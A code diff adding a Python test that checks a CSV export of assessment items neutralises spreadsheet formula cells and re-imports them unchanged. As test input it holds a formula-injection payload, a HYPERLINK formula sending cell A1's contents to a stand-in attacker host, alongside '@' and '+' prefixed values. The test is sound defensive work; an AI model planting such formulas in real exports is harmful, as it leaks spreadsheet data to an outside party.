@@ -39,3 +39,35 @@ def test_deep_json_in_a_csv_rubric_is_refused_with_its_line() -> None:
         )
     assert any("Line 2" in p and "nested" in p for p in refused.value.problems)
     assert not Item.objects.exists()
+
+
+def test_the_csv_export_neutralises_formula_cells_and_reimports_them_unchanged() -> (
+    None
+):
+    import csv
+    import io
+
+    from skillpath.assessments.interchange_csv import items_export_csv
+    from skillpath.assessments.tests import factories
+    from skillpath.credentials.testing import micro_credential
+
+    credential = micro_credential(levels=(2,))
+    [competency] = factories.competencies(credential)
+    [item] = factories.bank(competency, size=1, status="draft")
+    item.stem_en = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    item.stem_fr = "@SUM(1+1)"
+    item.content["options"][0]["en"] = "+1 answer"
+    item.save()
+    text = items_export_csv([item])
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    for column in ("stem_en", "stem_fr", "options_en"):
+        assert not row[column].startswith(("=", "+", "-", "@")), column
+    assert row["stem_en"].startswith("'=")
+    item.delete()
+    coordinator = testing.coordinator(credential.issuing_organisation)
+    interchange.items_import(author=coordinator, data=text.encode(), file_format="csv")
+    again = Item.objects.get(code=item.code)
+    assert again.stem_en == '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert again.stem_fr == "@SUM(1+1)"
+    assert again.content["options"][0]["en"] == "+1 answer"
+    assert again.thresholds == item.thresholds
